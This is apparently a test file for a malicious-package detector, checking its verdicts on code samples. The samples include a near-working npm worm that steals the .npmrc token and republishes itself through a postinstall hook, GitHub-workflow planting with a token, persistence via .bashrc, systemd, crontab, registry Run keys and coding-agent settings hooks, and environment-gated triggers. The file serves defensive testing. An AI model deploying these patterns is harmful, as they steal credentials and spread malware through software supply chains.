import { describe, expect, it } from 'vitest';
import { verdictsOf } from '../testing/shapesIn.ts';

describe('a package that spreads is held', () => {
  it('by publishing with tokens that it found, with itself in the install hook', () => {
    const worm = `const fs = require('fs'), os = require('os'), cp = require('child_process');
const token = /_authToken=(.*)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];
async function spread(dir) {
  const mine = await (await fetch(host + '/-/whoami', { headers: { authorization: token } })).json();
  const found = await (await fetch(host + '/-/v1/search?text=maintainer:' + mine.username)).json();
  const manifest = JSON.parse(fs.readFileSync(dir + '/package.json', 'utf8'));
  manifest.scripts.postinstall = 'node bundle.js';
  fs.copyFileSync(__filename, dir + '/bundle.js');
  fs.writeFileSync(dir + '/package.json', JSON.stringify(manifest));
  cp.execSync('npm publish', { cwd: dir });
}`;
    expect(verdictsOf({ 'a.js': worm })).toEqual(['hold self-propagation']);
  });

  it('over several files, and through the registry’s protocol', () => {
    expect(
      verdictsOf({
        'find.js': "exports.token = process.env.NPM_TOKEN; exports.own = (h) => fetch(h + '/-/whoami')",
        'send.js':
          "const body = {}; body['_attach' + 'ments'] = file; fetch(url, { method: 'PUT', body: JSON.stringify(body) })",
      }),
    ).toEqual(['hold self-propagation']);
  });

  it('by writing workflows with a token, into repositories that it makes', () => {
    const text = `import os, requests
token = os.environ['GITHUB_TOKEN']
def plant(root):
  requests.post(api + '/user/repos', headers={'authorization': token})
  with open(root + '/.github/workflows/x.yml', 'w') as f: f.write(body)`;
    expect(verdictsOf({ 'a.py': text })).toEqual(['hold self-propagation']);
  });

  it.each([
    [
      'a release tool',
      "const cp = require('child_process'); const token = process.env.NPM_TOKEN; fs.writeFileSync('.npmrc', '//host/:_authToken=' + token); cp.execSync('npm publish')",
    ],
    [
      'a starter that writes a workflow',
      "const fs = require('fs'); fs.writeFileSync(root + '/.github/workflows/ci.yml', template)",
    ],
    [
      'a client of a forge',
      "const token = process.env.GITHUB_TOKEN; fetch(api + '/user/repos', { headers: { authorization: token } })",
    ],
  ])('not %s', (_, text) => {
    expect(verdictsOf({ 'a.js': text }).filter((one) => one.includes('self-propagation'))).toEqual([]);
  });
});

describe('persistence', () => {
  it.each([
    [
      'a shell start file at import',
      'a.js',
      "const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)",
      'hold persistence',
    ],
    [
      'a systemd unit at import',
      'a.py',
      "import os\nwith open(os.path.expanduser('~/.config/systemd/user/x.service'), 'w') as f: f.write(unit)",
      'hold persistence',
    ],
    [
      'a crontab',
      'a.js',
      "const cp = require('child_process'); cp.execSync('(crontab -l; echo \"* * * * * node x\") | crontab -')",
      'hold persistence',
    ],
    [
      'a registry run key',
      'a.js',
      "const cp = require('child_process'); cp.exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d y')",
      'hold persistence',
    ],
    [
      'instructions of a coding agent',
      'a.js',
      "const fs = require('fs'); fs.writeFileSync(home + '/.claude/settings.json', hooks)",
      'hold persistence',
    ],
    [
      'a launch agent when asked',
      'a.js',
      "const fs = require('fs'); exports.startup = () => fs.writeFileSync(home + '/Library/LaunchAgents/x.plist', plist)",
      'review persistence',
    ],
    [
      'a git hook',
      'a.js',
      "const fs = require('fs'); fs.writeFileSync('.git/hooks/pre-commit', script)",
      'review persistence',
    ],
  ])('%s', (_, file, text, verdict) => {
    expect(verdictsOf({ [file]: text })).toEqual([verdict]);
  });

  it.each([
    ['reading a start file', 'a.py', "text = open('/home/me/.bashrc').read()"],
    ['asking what runs', 'a.js', "require('child_process').execSync('systemctl status nginx')"],
    ['speaking of it', 'a.js', "console.log('Add this line to ~/.bashrc')"],
    ['writing a file of its own', 'a.js', "require('fs').writeFileSync('out/report.json', text)"],
  ])('not %s', (_, file, text) => {
    expect(verdictsOf({ [file]: text })).toEqual([]);
  });
});

describe('environment gates', () => {
  it.each([
    [
      'one host only',
      'a.js',
      "const os = require('os'); if (os.hostname() === 'build-7') fetch('https://example.invalid/')",
      'review environment-gate',
    ],
    [
      'one place only',
      'a.js',
      "const zone = Intl.DateTimeFormat().resolvedOptions().timeZone; if (zone === 'Europe/Nowhere') require('child_process').exec(x)",
      'review environment-gate',
    ],
    [
      'one user only, in Python',
      'a.py',
      "import getpass, requests\nif getpass.getuser() == 'deploy': requests.post('https://example.invalid/')",
      'review environment-gate',
    ],
    [
      'one package only',
      'a.js',
      "if (process.env.npm_package_name === 'wallet') fetch('https://example.invalid/')",
      'review environment-gate',
    ],
    [
      'a date',
      'a.js',
      "if (new Date().getFullYear() > 2030) fetch('https://example.invalid/')",
      'note environment-gate',
    ],
    [
      'a build machine',
      'a.js',
      "if (process.env.CI === 'true') fetch('https://example.invalid/')",
      'note environment-gate',
    ],
  ])('%s', (_, file, text, verdict) => {
    expect(verdictsOf({ [file]: text })).toEqual([verdict]);
  });

  it.each([
    ['a switch of its own', "if (process.env.MY_TOOL_DEBUG === '1') fetch('https://example.invalid/')"],
    ['a host that is only printed', "const os = require('os'); if (os.hostname() === 'x') console.log('hi')"],
    ['a platform', "if (process.platform === 'win32') require('child_process').exec('ver')"],
  ])('not %s', (_, text) => {
    expect(verdictsOf({ 'a.js': text })).toEqual([]);
  });
});
